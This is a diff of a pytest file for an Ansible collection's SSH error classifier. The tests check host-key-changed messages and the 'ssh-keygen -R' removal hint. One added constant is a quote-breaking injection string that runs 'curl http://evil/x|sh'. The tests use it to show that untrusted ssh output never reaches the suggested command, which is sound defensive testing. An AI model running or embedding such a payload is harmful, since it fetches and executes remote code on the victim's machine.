@@ -6,13 +6,16 @@
 from __future__ import annotations
 
 import pytest
+from ansible_collections.compute_desk.supply.plugins.module_utils._known_as import KnownAs
 from ansible_collections.compute_desk.supply.plugins.module_utils._problem import Problem
 from ansible_collections.compute_desk.supply.plugins.module_utils._ssh_failure import (
     Setting,
     Target,
     judge,
     no_answer,
+    speaks_of_host_key,
 )
+from ansible_collections.compute_desk.supply.plugins.module_utils._text import quoted
 from hypothesis import given
 
 from .helpers import ANY_TEXT
@@ -193,8 +196,11 @@ def test_what_ssh_says_for_debugging_is_not_the_reason() -> None:
 def test_a_changed_key_says_which_it_is_and_how_the_old_one_goes() -> None:
     text = str(judge(FAILED + CHANGED + REFUSED_IT, TARGET))
 
-    assert "now it is SHA256:y4UmH6ZksxCczj+tTULlVckJ3wgoD8esG4twzLGvSdw (tried" in text
-    assert "ssh-keygen -f '/home/me/.ssh/known_hosts' -R 'i-0a1b2c3d'" in text
+    assert (
+        "now it is SHA256:y4UmH6ZksxCczj+tTULlVckJ3wgoD8esG4twzLGvSdw, and ssh says 'Offending "
+        "ED25519 key in /home/me/.ssh/known_hosts:17' (tried"
+    ) in text
+    assert text.endswith("Then remove the old key: ssh-keygen -R '[203.0.113.7]:2222'")
 
 
 def test_a_changed_key_of_which_ssh_says_no_more_is_told_as_well() -> None:
@@ -203,7 +209,76 @@ def test_a_changed_key_of_which_ssh_says_no_more_is_told_as_well() -> None:
 
     assert (problem.kind, problem.final) == ("host_key_changed", True)
     assert "now it is not shown (tried" in str(problem)
-    assert "ssh-keygen -f 'known_hosts' -R 'the name of the host'" in problem.hint
+    assert problem.hint.endswith("ssh-keygen -R '[203.0.113.7]:2222'")
+
+
+@pytest.mark.parametrize(
+    ("target", "end"),
+    [
+        (Target(), "Then remove the old key from known_hosts."),
+        (Target(Setting("gpu-1", "")), "Then remove the old key: ssh-keygen -R gpu-1"),
+        (
+            Target(Setting("gpu-1", ""), known_as=KnownAs("i-0a1b", "/home/my self/known")),
+            "Then remove the old key: ssh-keygen -f '/home/my self/known' -R i-0a1b",
+        ),
+        (Target(known_as=KnownAs("a\nb")), "Then remove the old key from known_hosts."),
+    ],
+)
+def test_the_old_key_is_removed_by_what_our_settings_say(target: Target, end: str) -> None:
+    assert judge(CHANGED + REFUSED_IT, target).hint.endswith(end)
+
+
+EVIL = "';curl http://evil/x|sh;'"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        f"Offending ED25519 key in {EVIL}:17",
+        f"Host key for {EVIL} has changed and you have requested strict checking.",
+        f"ED25519 host key for {EVIL} has changed and you have requested strict checking.",
+        f"SHA256:{EVIL}",
+        f"The host key for {EVIL} has changed",
+    ],
+)
+def test_no_word_of_the_machine_is_in_a_command(line: str) -> None:
+    text = f"{CHANGED}{line}\nHost key verification failed."
+
+    problem = judge(text, TARGET)
+
+    assert problem.kind == "host_key_changed"
+    assert problem.hint == judge(CHANGED + REFUSED_IT, TARGET).hint
+    assert EVIL.split(";")[1] not in problem.message.replace(quoted(line), "")
+
+
+@pytest.mark.parametrize(
+    ("text", "speaks"),
+    [
+        (CHANGED + REFUSED_IT, True),
+        (REVOKED, True),
+        ("Host key verification failed.", True),
+        (CHANGED + BORE_WITH_IT + "root@203.0.113.7: Permission denied (publickey).", False),
+        (CHANGED, False),
+        ("ssh: connect to host 203.0.113.7 port 22: Connection refused", False),
+        ("", False),
+    ],
+)
+def test_a_machine_that_let_us_in_is_not_believed_about_its_key(text: str, speaks: bool) -> None:
+    assert speaks_of_host_key(FAILED + text) is speaks
+
+    believed = judge(FAILED + text, TARGET)
+    not_believed = judge(FAILED + text, TARGET, believe_host_key=False)
+
+    assert "host key is" not in not_believed.message
+    assert not not_believed.final
+    assert (not_believed == believed) is not speaks
+
+
+def test_what_else_it_says_counts_all_the_same() -> None:
+    text = FAILED + CHANGED + REFUSED_IT + "Connection closed by 203.0.113.7 port 22"
+
+    assert judge(text, TARGET, believe_host_key=False) == judge(text, TARGET)
+    assert judge(text, TARGET).message.startswith("the machine closed the connection")
 
 
 @pytest.mark.parametrize(
